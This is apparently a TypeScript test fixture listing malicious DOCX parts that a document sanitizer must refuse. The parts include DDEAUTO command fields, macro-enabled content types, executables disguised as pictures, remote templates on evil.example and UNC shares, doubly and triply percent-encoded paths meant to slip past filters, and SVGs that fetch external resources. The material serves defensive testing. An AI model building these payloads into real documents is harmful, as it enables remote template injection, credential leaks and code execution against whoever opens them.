import type { Part } from '../worlds/test-files.ts';
import { METAFILES } from './metafiles.ts';

/** Parts of DOCX files with active or external content specific to DOCX, each of which must be refused. */

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml';

const relationshipsPart = (type: string, target: string, mode = 'TargetMode="External"') =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${type}" Target="${target}" ${mode}/></Relationships>`;
const contentTypes = (overrides: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${WORD}.document.main+xml"/>${overrides}</Types>`;
const DDE = '<w:document><w:body><w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p></w:body></w:document>';
const svgWith = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`;

/** Parts that are added to a good DOCX, or replace one of its own. */
export const ACTING_DOCX_PARTS: Readonly<Record<string, Readonly<Record<string, Part | string>>>> = {
  'another main part, named as a picture': {
    '[Content_Types].xml': contentTypes(
      `<Override PartName="/word/a.png" ContentType="${WORD}.document.main+xml"/>`,
    ),
    '_rels/.rels': relationshipsPart(`${OFFICE}/officeDocument`, 'word/a.png', ''),
    'word/a.png': DDE,
  },
  'another main part, named as relationships': {
    '[Content_Types].xml': contentTypes(
      `<Override PartName="/word/a.rels" ContentType="${WORD}.document.main+xml"/>`,
    ),
    '_rels/.rels': relationshipsPart(`${OFFICE}/officeDocument`, 'word/a.rels', ''),
    'word/a.rels': DDE,
  },
  'pictures that are documents by default': {
    '[Content_Types].xml': contentTypes(`<Default Extension="png" ContentType="${WORD}.document.main+xml"/>`),
    'word/a.png': `\n${DDE}`,
  },
  'macros by its type': {
    '[Content_Types].xml': contentTypes(
      '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    ),
  },
  'a page named as a picture': { 'word/media/a.png': '<!doctype html><script>x</script>' },
  'a program named as a picture': { 'word/media/a.png': 'MZ\x90\0' },
  'a link to a program beside it': {
    'word/_rels/document.xml.rels': relationshipsPart(`${OFFICE}/hyperlink`, 'setup.exe'),
  },
  'a link to a program beside it, within the package': {
    'word/_rels/document.xml.rels': relationshipsPart(`${OFFICE}/hyperlink`, 'setup.exe', ''),
  },
  'a link to a program in a folder beside it': {
    'word/_rels/document.xml.rels': relationshipsPart(`${OFFICE}/hyperlink`, 'ana.example/setup.exe'),
  },
  'a link to a program above it': {
    'word/_rels/document.xml.rels': relationshipsPart(`${OFFICE}/hyperlink`, '..%5Csetup.exe'),
  },
  'a drawing of Windows': { 'word/media/image1.emf': METAFILES.emf },
  'an old drawing of Windows': { 'word/media/image1.wmf': METAFILES.placeableWmf },
  'a drawing of Windows named as a picture': { 'word/media/image1.png': METAFILES.emf },
  'a thumbnail that is a drawing of Windows': { 'docProps/thumbnail.emf': METAFILES.emf },
  'an archive named as a font': { 'word/fonts/a.ttf': 'PK\x03\x04' },
  'a base for its links': {
    'docProps/app.xml': '<Properties><HyperlinkBase>\\\\evil.example\\</HyperlinkBase></Properties>',
  },
  'a base for its links behind an element': {
    'docProps/app.xml': '<Properties><HyperlinkBase><x/>file://evil.example/a</HyperlinkBase></Properties>',
  },
  'a main part under two names': {
    '[Content_Types].xml': contentTypes(
      `<Override PartName="/word/a.odttf" x:PartName="/word/a.xml" ContentType="${WORD}.document.main+xml"/>`,
    ),
  },
  'a main part whose name is written in figures': {
    '[Content_Types].xml': contentTypes(
      `<Override PartName="/word/a.odtt%66" ContentType="${WORD}.document.main+xml"/>`,
    ),
  },
  'relationships of another case': {
    'word/_rels/Document.xml.rels': relationshipsPart(`${OFFICE}/hyperlink`, 'https://evil.example/a'),
    'word/_rels/document.xml.rels': '<Relationships/>',
  },
  'a template on a share': {
    'word/_rels/settings.xml.rels': relationshipsPart(
      `${OFFICE}/attachedTemplate`,
      'file:///\\\\evil\\a.dotx',
    ),
  },
  'a template on a share, by slashes': {
    'word/_rels/settings.xml.rels': relationshipsPart(`${OFFICE}/attachedTemplate`, 'file:////evil/a.dotx'),
  },
  'a template on a share, written in figures': {
    'word/_rels/settings.xml.rels': relationshipsPart(
      `${OFFICE}/attachedTemplate`,
      'file:///%5C%5Cevil/a.dotx',
    ),
  },
  'a template from the web': {
    'word/_rels/settings.xml.rels': relationshipsPart(
      `${OFFICE}/attachedTemplate`,
      'https://evil.example/a.dotx',
    ),
  },
  'a template above its folder': {
    'word/_rels/settings.xml.rels': relationshipsPart(
      `${OFFICE}/attachedTemplate`,
      'file:///C:\\..\\UNC\\evil\\a.dotx',
    ),
  },
  'a template with macros': {
    'word/_rels/settings.xml.rels': relationshipsPart(`${OFFICE}/attachedTemplate`, 'file:///C:\\a.dotm'),
  },
  'a sheet of another format at its head': {
    'word/settings.xml':
      '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example"?><w:settings/>',
  },
  'a schema that brings a program': {
    'word/settings.xml':
      '<w:settings><sl:schemaLibrary><sl:schema sl:manifestLocation="https://evil.example"/></sl:schemaLibrary></w:settings>',
  },
  'a schema from elsewhere': {
    'word/settings.xml':
      '<w:settings><sl:schemaLibrary><sl:schema sl:uri="urn:a" sl:schemaLocation="https://evil.example/a.xsd"/></sl:schemaLibrary></w:settings>',
  },
  'a schema of the library': {
    'word/settings.xml':
      '<w:settings><sl:schemaLibrary><sl:schema sl:uri="urn:a"/></sl:schemaLibrary></w:settings>',
  },
  'a schema that is attached': {
    'word/settings.xml': '<w:settings><w:attachedSchema w:val="https://evil.example/a"/></w:settings>',
  },
  'frames of other documents': {
    'word/webSettings.xml':
      '<w:webSettings><w:frameset><w:frame><w:sourceFileName r:id="r1"/></w:frame></w:frameset></w:webSettings>',
  },
  'a frame without its set': {
    'word/webSettings.xml': '<w:webSettings><w:frame><w:linkedToFile/></w:frame></w:webSettings>',
  },
  'a pane of an add-in': {
    'word/webextensions/taskpanes.xml':
      '<wetp:taskpanes><wetp:taskpane wetp:visibility="1"><wetp:webextensionref r:id="r1"/></wetp:taskpane></wetp:taskpanes>',
  },
  'an add-in': {
    'word/a.xml':
      '<we:webextension id="a"><we:reference id="wa1" store="https://evil.example" storeType="Registry"/></we:webextension>',
  },
  'an add-in by its type': {
    '[Content_Types].xml': contentTypes(
      '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.webextension+xml"/>',
    ),
  },
  'an add-in by its name': { 'word/webextensions/a.xml': '<a/>' },
  'a menu of its own': {
    'customUI/customUI.xml': '<customUI onLoad="x"><ribbon/></customUI>',
  },
  'a template on a share, written in figures twice': {
    'word/_rels/settings.xml.rels': relationshipsPart(
      `${OFFICE}/attachedTemplate`,
      'file:///%255C%255Cevil/a.dotx',
    ),
  },
  'a template whose share is written in figures twice': {
    'word/_rels/settings.xml.rels': relationshipsPart(
      `${OFFICE}/attachedTemplate`,
      '%255c%255cevil%255ca.dotx',
    ),
  },
  'a template whose scheme is written in figures twice': {
    'word/_rels/settings.xml.rels': relationshipsPart(
      `${OFFICE}/attachedTemplate`,
      '%2566ile:%252f%252fevil/a.dotx',
    ),
  },
  'a template whose scheme is written in figures three times': {
    'word/_rels/settings.xml.rels': relationshipsPart(
      `${OFFICE}/attachedTemplate`,
      '%252566ile%25253a%25252f%25252fevil/a.dotx',
    ),
  },
  'a template on a share, in figures that nobody can read': {
    'word/_rels/settings.xml.rels': relationshipsPart(
      `${OFFICE}/attachedTemplate`,
      'file:///%5C%5Cevil/%E9%zz/a.dotx',
    ),
  },
  'a template whose scheme ends a line': {
    'word/_rels/settings.xml.rels': relationshipsPart(`${OFFICE}/attachedTemplate`, '%0a%5c%5cevil%5ca.dotx'),
  },
  'a picture whose share is written in figures': {
    'word/_rels/document.xml.rels': relationshipsPart(`${OFFICE}/image`, '%5c%5cevil/a.png', ''),
  },
  'a picture whose scheme has the end of a line in it': {
    'word/_rels/document.xml.rels': relationshipsPart(
      `${OFFICE}/image`,
      'ht&#10;tp://evil.example/a.png',
      '',
    ),
  },
  'links that another list brings': {
    'docProps/app.xml':
      '<Properties><HLinks><vt:vector><vt:variant><vt:lpwstr>file://evil.example/a</vt:lpwstr></vt:variant></vt:vector></HLinks></Properties>',
  },
  'a drawing with a page in it': { 'word/media/a.svg': svgWith('<foreignObject/>') },
  'a drawing that changes its links': { 'word/media/a.svg': svgWith('<set attributeName="href" to="x"/>') },
  'a drawing whose style fetches': {
    'word/media/a.svg': svgWith('<style>@import "//evil.example/a"</style>'),
  },
  'a drawing whose style fetches behind an element': {
    'word/media/a.svg': svgWith('<style><title/>@import url(https://evil.example/a)</style>'),
  },
  'a drawing whose style fetches inside an element': {
    'word/media/a.svg': svgWith('<style><title>@import url(https://evil.example/a)</title></style>'),
  },
  'a drawing with an address under two prefixes': {
    'word/media/a.svg': svgWith('<use xlink:href="https://evil.example/a#b" href="#a"/>'),
  },
  'a drawing whose colour fetches': {
    'word/media/a.svg': svgWith('<rect style="fill:url(https://evil.example/a#b)"/>'),
  },
  'a drawing whose colour fetches, written in figures': {
    'word/media/a.svg': svgWith('<rect style="fill:u\\72l(https://evil.example/a#b)"/>'),
  },
  'a drawing with a base': { 'word/media/a.svg': svgWith('<g xml:base="https://evil.example"/>') },
  'a drawing that holds a drawing': {
    'word/media/a.svg': svgWith('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
  },
  'a drawing that uses another file': { 'word/media/a.svg': svgWith('<use href="a.svg#b"/>') },
};
